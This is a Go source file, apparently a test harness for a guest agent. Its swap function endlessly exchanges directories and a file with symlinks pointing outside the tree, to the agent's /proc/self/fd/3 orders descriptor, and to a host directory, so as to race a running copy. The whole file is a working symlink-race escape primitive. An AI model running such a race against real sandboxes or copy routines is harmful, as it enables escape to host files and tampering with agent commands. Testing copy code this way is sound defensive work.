package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// swapPause is between two exchanges.
const swapPause = 200 * time.Microsecond

// ordersFD is a descriptor of whoever does a copy inside: its orders (pkg/agent/guest, stageJobFD).
const ordersFD = "3"

// swap exchanges, for ever, a directory for a link out of the tree, a file for a link to a descriptor of whoever resolves it, and a
// directory for a link to the host directory ATTACK_HOST_DIR. The directory has ATTACK_SWAP_FILES files, so that a copy is at work
// for a while.
func swap() error {
	files, err := strconv.Atoi(os.Getenv("ATTACK_SWAP_FILES"))
	if err != nil {
		return err
	}
	const tree = "/tmp/swap/tree"
	for _, dir := range []string{tree + "/d", "/outside", "/tmp/swap/into"} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return err
		}
	}
	for i := range files {
		name := fmt.Sprint("f", i)
		for dir, content := range map[string]string{tree + "/d": "inside", "/outside": "BESIDE"} {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
				return err
			}
		}
	}
	if err := os.WriteFile("/tmp/swap/file", []byte("inside"), 0o644); err != nil {
		return err
	}
	pairs := [][2]string{{tree + "/d", tree + "/l"}, {"/tmp/swap/file", "/tmp/swap/link"}, {"/tmp/swap/into", "/tmp/swap/host"}}
	for i, target := range []string{"/outside", "/proc/self/fd/" + ordersFD, os.Getenv("ATTACK_HOST_DIR")} {
		if err := os.Symlink(target, pairs[i][1]); err != nil {
			return err
		}
	}
	fmt.Println("swapping")
	for {
		for _, p := range pairs {
			// With a break, in which a copy gets on also where there is one processor.
			time.Sleep(swapPause)
			if err := unix.Renameat2(unix.AT_FDCWD, p[0], unix.AT_FDCWD, p[1], unix.RENAME_EXCHANGE); err != nil {
				return err
			}
		}
	}
}
